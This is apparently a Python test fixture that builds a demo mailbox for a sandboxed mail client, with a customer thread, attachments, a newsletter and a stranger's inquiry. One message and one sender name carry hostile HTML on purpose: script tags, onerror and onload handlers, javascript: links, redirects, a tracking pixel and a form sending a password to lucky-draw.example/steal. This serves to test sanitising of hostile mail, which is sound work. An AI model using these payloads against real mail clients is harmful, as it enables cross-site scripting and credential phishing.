"""What is written in the demo's mail: a thread, attachments, several people, strangers, and something hostile."""

import base64
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import timedelta

from sandbox.microsoft.mail.parts import File

# One red pixel (PNG), and the smallest page that readers of PDF open.
_PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
_PRICES = b"article;pieces;price\r\nBW-100;40;12.50\r\nBW-220;8;199.00\r\n"

_MINUTES = """<p>Dear all,</p>
<p>thank you for Tuesday. What we agreed on:</p>
<ul><li>The pilot starts on the first of next month.</li><li>{first} sends the revised prices by Friday.</li>
<li>We look at the results together in six weeks.</li></ul>
<table border="1" cellpadding="4"><tr><th>Step</th><th>Who</th><th>Until</th></tr>
<tr><td>Access for the team</td><td>{who}</td><td>Wednesday</td></tr>
<tr><td>Prices</td><td>{first}</td><td>Friday</td></tr></table>
<p>Please tell me if I forgot anything.</p><p>{signature}</p>"""
_HOSTILE = """<html><head><style>body{{position:fixed;top:0;left:0}}</style><meta http-equiv="refresh" content="0;url=https://lucky-draw.example/">
<base href="https://lucky-draw.example/"></head><body onload="alert('onload')">
<h1 style="color:#b00000">Congratulations, {first}!</h1><script>alert("script")</script>
<img src="x" onerror="alert('onerror')"><img src="https://lucky-draw.example/seen.gif?to={first}" width="1" height="1">
<iframe src="https://lucky-draw.example/"></iframe><svg onload="alert('svg')"></svg>
<form action="https://lucky-draw.example/steal"><input name="password" value="type it here"><button>Claim</button></form>
<p>You won <b>1 000 000 &euro;</b>. <a href="javascript:alert('link')">Claim it now</a>, or look at
<a href="https://lucky-draw.example/" target="_top">our page</a>.</p></body></html>"""  # noqa: E501  (one attack a line)
_NEWS = """<div style="background:#eef6f8;padding:16px;font-family:Georgia,serif">
<h2 style="color:#0b5563">Harbour News</h2>
<p>The spring fair opens on 12 March. <a href="https://harbour-news.example/fair">Tickets</a></p>
<p style="font-size:11px;color:#666">You get this because you are a member.
<a href="https://harbour-news.example/off">Stop</a></p></div>"""


@dataclass(frozen=True)
class Writer:
    """Somebody who writes. signature: plain text below the message, empty for none."""

    name: str
    address: str
    signature: str = ""

    def person(self) -> dict[str, str]:
        return {"name": self.name, "address": self.address}


@dataclass(frozen=True)
class Letter:
    """One message. sender None: the user; to, cc: beside the user; ago: before now; answers: the number, in the
    user's list, of the letter that this one answers."""

    subject: str
    body: str
    ago: timedelta
    sender: Writer | None = None
    to: tuple[Writer, ...] = ()
    cc: tuple[Writer, ...] = ()
    html: bool = False
    files: tuple[File, ...] = ()
    answers: int | None = None
    is_read: bool = False


NEWS = Writer("Harbour News", "news@harbour-news.example")
STRANGER = Writer(
    "Nuria Castellanos",
    "n.castellanos@puertoazul.example",
    "Nuria Castellanos Ferrer\nHead of Procurement\nPuerto Azul Marina S.L.\nT +34 900 000 117  |  M +34 600 000 482\n"
    "Muelle de Levante 4, 03001 Alicante, Spain\nwww.puertoazul.example",
)
SWINDLER = Writer('<img src=x onerror="alert(1)"> Prize Department', "prizes@lucky-draw.example")


def letters_to(first: str, known: Sequence[Writer], colleague: Writer | None) -> Iterator[Letter]:
    """The letters of one user, oldest first. first: the user's first name; known: at least three customers."""
    yield from _thread(first, known[0])
    yield from _older(first, known)
    yield from _of_today(first, known, colleague)


def _thread(first: str, customer: Writer) -> Iterator[Letter]:
    """Numbers 0 to 2."""
    subject = "Offer for the spring delivery"
    asked = (
        f"Hello {first},\n\ncould you send us an offer for the spring delivery, 40 pieces of BW-100 and 8 of BW-220?\n"
    )
    yield Letter(subject, f"{asked}We would like to decide by the end of the month.", _days(6), customer, is_read=True)
    prices = File("prices.csv", "text/csv", _PRICES)
    offered = "Hello,\n\nthe prices are attached; they hold for six weeks. Shall we talk it through on the phone?"
    yield Letter(f"RE: {subject}", offered, _days(5), to=(customer,), files=(prices,), answers=0)
    thanks = f"Hello {first},\n\nthank you. Two questions before I pass it on:\n\n"
    thanks += "1. Does the price include the delivery to our second site?\n2. What if we take 60 pieces?\n\n"
    yield Letter(
        f"RE: {subject}", f"{thanks}Thursday after two suits me best for a call.", _hours(3), customer, answers=1
    )


def _older(first: str, known: Sequence[Writer]) -> Iterator[Letter]:
    yield Letter("The spring fair opens", _NEWS, _days(9), NEWS, html=True, is_read=True)
    one, two, three = known[:3]
    minutes = _MINUTES.format(first=first, who=two.name, signature=two.signature.replace("\n", "<br>"))
    plan = File("floor plan.png", "image/png", _PIXEL)
    yield Letter("Minutes of Tuesday", minutes, _days(4), two, (one,), (three,), html=True, files=(plan,), is_read=True)
    contract = File("contract, signed.pdf", "application/pdf", _PDF)
    signed = f"Dear {first},\n\nhere is the contract with both signatures. We look forward to working with you."
    yield Letter("Signed contract", signed, _days(1), three, files=(contract,))


def _of_today(first: str, known: Sequence[Writer], colleague: Writer | None) -> Iterator[Letter]:
    asked = (
        "Good morning,\n\na customer of yours spoke well of you. We run two marinas and look for a supplier for the\n"
    )
    asked += "coming season, about 300 berths. Whom may I call?"
    yield Letter("Supplier for two marinas", asked, _hours(5), STRANGER)
    yield Letter(f"You have WON, {first}!", _HOSTILE.format(first=first), _hours(4), SWINDLER, html=True)
    if colleague is not None:
        lunch = f"Hi {first},\n\nlunch at one? I would like to hear how it went with {known[1].name}."
        yield Letter("Lunch?", lunch, _hours(1), colleague)
    late = f"Hello {first},\n\nour carrier is late and so are we: can the meeting be half an hour later?"
    yield Letter("Half an hour later?", late, timedelta(minutes=20), known[1])


def _days(number: int) -> timedelta:
    return timedelta(days=number)


def _hours(number: int) -> timedelta:
    return timedelta(hours=number)
